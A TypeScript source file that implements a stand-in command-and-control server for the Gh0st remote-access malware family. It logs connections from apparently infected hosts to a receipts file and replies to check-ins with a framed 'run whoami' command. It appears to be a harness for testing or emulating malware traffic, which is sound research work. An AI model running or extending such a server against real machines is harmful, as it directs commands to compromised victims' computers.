/**
 * The attacker's server that infected computers report to, in namespace `net`, both families.
 *   commander.ts ADDRESS4 ADDRESS6 PORT RECEIPTS
 * Appends one JSON line for all that came so far on a connection, whenever something comes:
 * { from, port, bytes, framed }: `framed` is true once a whole frame of the Gh0st family has come.
 */
import { appendFile } from 'node:fs/promises';
import { createServer, type Socket } from 'node:net';
import { frameOf, isWholeFrame } from './gh0st-frame.ts';

const [address4 = '', address6 = '', port = '', receipts = ''] = process.argv.slice(2);

function serve(socket: Socket): void {
  let received = Buffer.alloc(0);
  socket.on('data', (chunk: Buffer) => {
    if (received.length > 64 * 1024) return void socket.destroy();
    received = Buffer.concat([received, chunk]);
    const framed = isWholeFrame(received);
    const line = { from: socket.remoteAddress, port: socket.remotePort, bytes: received.length, framed };
    void appendFile(receipts, `${JSON.stringify(line)}\n`);
    const text = received.toString('latin1');
    if (framed || text.startsWith('order?')) socket.write(frameOf('run whoami'));
    else if (text.startsWith('hello')) socket.write(`welcome${text.slice('hello'.length)}`);
  });
  socket.setTimeout(20_000, () => socket.destroy());
  socket.on('error', () => socket.destroy());
}

for (const address of [address4, address6]) createServer(serve).listen(Number(port), address);
process.stdout.write('ready\n');
